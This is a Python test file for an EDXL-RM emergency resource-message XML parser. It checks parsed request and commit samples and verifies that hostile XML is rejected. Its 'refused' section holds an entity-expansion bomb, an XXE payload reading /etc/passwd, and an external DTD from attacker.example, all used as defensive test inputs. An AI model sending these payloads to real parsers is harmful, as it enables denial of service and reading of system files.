"""EDXL-RM parsing: every xchangecore sample read exactly, and hostile XML refused."""

from __future__ import annotations

import time
from pathlib import Path
from typing import Any

import pytest

from eadrcc.edxl import parse
from eadrcc.edxl.models import Contact, Keyword, Message, Place, ResourceInfo, Schedule
from eadrcc.errors import BadRequest, Invalid

DATA = Path(__file__).parents[1] / "data" / "edxl-rm"

NIMS: dict[str, Any] = {
    "type_urn": "http://nimsonline.org/2.0",
    "type_value": "NIMS Typing Version X",
}
DOZER_KEYWORDS = [
    Keyword(urn="urn:uicds:resource:keywords:required:TrackDozer#BladeCapacity", value="6.0"),
    Keyword(urn="urn:vdem#County", value="Fairfax"),
]
ARLINGTON_WASTE = "Arlington Waste Facility"
WASTE_ADDRESS = "Eisenhower Avenue 5301, Arlington, 22204, VA, US"
WASTE_POS = "38.801168 -77.127685"


def sample(name: str) -> Message:
    return parse.read((DATA / f"xchangecore_{name}.rm.xml").read_bytes())


def request(n: int, contact_place: Place, delivery: Place) -> Message:
    return Message(
        kind="RequestResource",
        message_id=f"RequestResource.{n}",
        sent="2009-06-09T13:00:00",
        originating_id=f"RequestResource.{n}",
        incident_id="uicds-incident-id",
        contacts=[
            Contact(
                role="Requester",
                description="Arlington Fire Station",
                country=contact_place.country,
                place=contact_place,
            )
        ],
        resources=[
            ResourceInfo(
                element_id="ResourceInfoElementID.1",
                **NIMS,
                type_name="Track Dozer",
                type_class="Type I",
                quantity_text="4",
                schedules=[Schedule(kind="RequestedArrival", place=delivery)],
            )
        ],
    )


def commit(n: int, contact_place: Place, committed: Place) -> Message:
    def dozer(element: int, resource_id: str) -> ResourceInfo:
        return ResourceInfo(
            element_id=f"ResourceInfoElementID.{element}",
            response="Accept",
            answers="ResourceInfoElementID.1",  # sic: both answer the first element
            resource_id=resource_id,
            name=f"Track Dozer #{resource_id[2:]}",
            **NIMS,
            type_name="Track Dozer",
            type_class="Type II",
            keywords=DOZER_KEYWORDS,
            schedules=[Schedule(kind="Committed", place=committed)],
        )

    return Message(
        kind="CommitResource",
        message_id=f"CommitResource.{n}",
        sent="2009-06-09T13:10:00",
        originating_id=f"RequestResource.{n}",
        preceding_id=f"RequestResource.{n}",
        incident_id="uicds-incident-id",
        contacts=[
            Contact(
                role="Owner",
                description="Fairfax Fire Station",
                country=contact_place.country,
                place=contact_place,
            )
        ],
        resources=[dozer(1, "TD48"), dozer(2, "TD7")],
    )


def test_request_resource_1_place_names_only() -> None:
    assert sample("RequestResource.1") == request(
        1, Place(description="Arlington"), Place(description=ARLINGTON_WASTE)
    )


def test_request_resource_2_gml_points() -> None:
    assert sample("RequestResource.2") == request(
        2,
        Place(description="Arlington", pos="38.866014 -77.193162"),
        Place(description=ARLINGTON_WASTE, pos=WASTE_POS),
    )


def test_request_resource_3_xal_addresses() -> None:
    assert sample("RequestResource.3") == request(
        3,
        Place(
            description="Arlington",
            address="Hodge Place 3101, Falls Church, 22042, VA, US",
            country="US",
        ),
        Place(description=ARLINGTON_WASTE, address=WASTE_ADDRESS, country="US"),
    )


def test_commit_resource_1() -> None:
    assert sample("CommitResource.1") == commit(
        1, Place(description="Fairfax"), Place(description=ARLINGTON_WASTE)
    )


def test_commit_resource_2() -> None:
    assert sample("CommitResource.2") == commit(
        2,
        Place(description="Fairfax", pos="38.872071 -77.248258"),
        Place(description=ARLINGTON_WASTE, pos=WASTE_POS),
    )


def test_commit_resource_3() -> None:
    assert sample("CommitResource.3") == commit(
        3,
        Place(
            description="Fairfax", address="Lee Highway 8739, Fairfax, 22031, VA, US", country="US"
        ),
        Place(description=ARLINGTON_WASTE, address=WASTE_ADDRESS, country="US"),
    )


def test_commit_resource_decline_without_declaration_or_types() -> None:
    def declined(n: int, resource_id: str) -> ResourceInfo:
        return ResourceInfo(
            element_id=f"ResourceInfoElementID.{n}",
            response="Decline",
            answers=f"ResourceInfoElementID.{n}",
            resource_id=resource_id,
            name=f"Track Dozer #{resource_id[2:]}",
        )

    assert sample("CommitResource-Decline") == Message(
        kind="CommitResource",
        message_id="35b87992-bd22-4ae2-bf07-fa5d5bb4fb80",
        sent="2011-03-11T19:57:21.9517542Z",
        originating_id="RequestResource.1",
        preceding_id="RequestResource.1",
        description="Commit Resource",
        incident_id="uicds-incident-id",
        contacts=[
            Contact(
                role="Sender",
                description="adapter@uicds.us",
                place=Place(description="Greenbelt MD"),
            )
        ],
        resources=[declined(1, "TD48"), declined(2, "TD7")],
    )


def test_the_type_reads_as_a_person_would_say_it() -> None:
    assert sample("RequestResource.1").resources[0].type_text == "Track Dozer Type I"


def test_type_info_as_plain_text_and_alpha3_country_text() -> None:
    msg = parse.read(
        b"""<OfferUnsolicitedResource xmlns="urn:oasis:names:tc:emergency:EDXL:RM:1.0">
        <MessageID>m1</MessageID>
        <ContactInformation><ContactRole>Owner</ContactRole>
          <AdditionalContactInformation><x:Addresses xmlns:x="urn:oasis:names:tc:ciq:xpil:3">
            <a:Address xmlns:a="urn:oasis:names:tc:ciq:xal:3"><a:Country>
              <a:NameElement> NOR </a:NameElement></a:Country></a:Address>
          </x:Addresses></AdditionalContactInformation></ContactInformation>
        <ResourceInformation><Resource><TypeInfo>  Mobile
           crane </TypeInfo></Resource></ResourceInformation>
        </OfferUnsolicitedResource>"""
    )
    assert msg.contacts[0].country == "NOR"
    assert msg.resources[0].type_name == "Mobile crane"
    assert msg.resources[0].type_text == "Mobile crane"


# ---- refused ---------------------------------------------------------------------

BOMB = b"""<?xml version="1.0"?>
<!DOCTYPE lolz [<!ENTITY a "aaaaaaaaaa">
<!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;">
<!ENTITY d "&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;"><!ENTITY e "&d;&d;&d;&d;&d;&d;&d;&d;&d;&d;">
<!ENTITY f "&e;&e;&e;&e;&e;&e;&e;&e;&e;&e;"><!ENTITY g "&f;&f;&f;&f;&f;&f;&f;&f;&f;&f;">
<!ENTITY h "&g;&g;&g;&g;&g;&g;&g;&g;&g;&g;"><!ENTITY i "&h;&h;&h;&h;&h;&h;&h;&h;&h;&h;">]>
<RequestResource xmlns="urn:oasis:names:tc:emergency:EDXL:RM:1.0:msg">
<MessageID>&i;</MessageID></RequestResource>"""
XXE = b"""<?xml version="1.0"?>
<!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]>
<RequestResource xmlns="urn:oasis:names:tc:emergency:EDXL:RM:1.0:msg">
<MessageID>&x;</MessageID></RequestResource>"""
EXTERNAL_DTD = b"""<?xml version="1.0"?>
<!DOCTYPE r SYSTEM "http://attacker.example/x.dtd">
<RequestResource xmlns="urn:oasis:names:tc:emergency:EDXL:RM:1.0:msg"/>"""


@pytest.mark.parametrize("payload", [BOMB, XXE, EXTERNAL_DTD], ids=["bomb", "xxe", "dtd"])
def test_dtds_are_refused_before_anything_expands(payload: bytes) -> None:
    started = time.perf_counter()
    with pytest.raises(BadRequest, match="DTDForbidden"):
        parse.read(payload)
    assert time.perf_counter() - started < 0.5


@pytest.mark.parametrize(
    "payload",
    [b"", b"<RequestResource>", b"<a><b></a>", b"not xml", b"<a>&undefined;</a>"],
)
def test_malformed_xml_is_a_bad_request(payload: bytes) -> None:
    with pytest.raises(BadRequest, match="malformed XML"):
        parse.read(payload)


def test_an_unknown_encoding_is_a_bad_request() -> None:
    with pytest.raises(BadRequest):
        parse.read(b'<?xml version="1.0" encoding="x-nope"?><a/>')


@pytest.mark.parametrize(
    "payload",
    [
        b'<alert xmlns="urn:oasis:names:tc:emergency:cap:1.2"/>',
        b'<RequestQuote xmlns="urn:oasis:names:tc:emergency:EDXL:RM:1.0:msg"/>',
        b"<RequestResource/>",
        b'<EDXLDistribution xmlns="urn:oasis:names:tc:emergency:EDXL:DE:1.0"/>',
    ],
    ids=["cap", "other-rm-kind", "no-namespace", "edxl-de-envelope"],
)
def test_other_documents_are_not_edxl_rm(payload: bytes) -> None:
    with pytest.raises(Invalid) as caught:
        parse.read(payload)
    assert "root" in (caught.value.errors or {})
